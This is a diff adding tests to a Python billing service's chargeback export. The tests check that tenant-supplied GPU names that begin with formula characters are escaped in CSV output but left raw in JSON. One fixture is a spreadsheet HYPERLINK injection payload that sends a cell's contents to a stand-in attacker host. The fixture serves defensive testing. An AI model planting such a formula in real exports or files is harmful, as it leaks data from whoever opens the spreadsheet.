@@ -15,6 +15,7 @@ from sqlalchemy.engine import URL
 
 from tests.support.postgres import url_string
 from tests.support.timekeeper import Api, Tokens, bearer, ok, sha256
+from timekeeper.billing.chargeback import escape_formula
 from timekeeper.clock import ManualClock
 from timekeeper.settings import Settings
 
@@ -163,3 +164,28 @@ async def test_a_range_backwards_or_too_fine_is_refused(api: Api) -> None:
 
 async def test_the_export_needs_a_reader(api: Api) -> None:
     assert (await api.client.get("/billing/chargeback")).status_code == 401
+
+
+async def test_a_gpu_name_that_is_a_formula_is_escaped_in_csv_only(api: Api, clock: ManualClock) -> None:
+    """OWASP's CSV injection rule: a tenant-written cell starting with =, +, -, @, tab or CR gets a quote."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    clock.set(MARCH + timedelta(days=3, minutes=11))
+    body = dict(pod="f1", pod_uid="uid-f1", start=MARCH + timedelta(days=3), minutes=10, gpu_share=1)
+    ok(await api.report(namespace="team-a", **body, gpus=gpus(formula, 50.0)))
+    clock.set(MARCH + timedelta(days=20))
+
+    rows = await export_csv(api)
+    answer = ok(
+        await api.client.get(
+            "/billing/chargeback", params={**WINDOW, "format": "json"}, headers=bearer(api.tokens.admin)
+        )
+    )
+
+    assert [row["gpu_model"] for row in rows] == ["'" + formula]
+    assert [row["gpu_model"] for row in answer["rows"]] == [formula]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+async def test_each_formula_prefix_is_escaped(text: str) -> None:
+    assert escape_formula(text) == "'" + text
+    assert escape_formula("NVIDIA-H100") == "NVIDIA-H100"
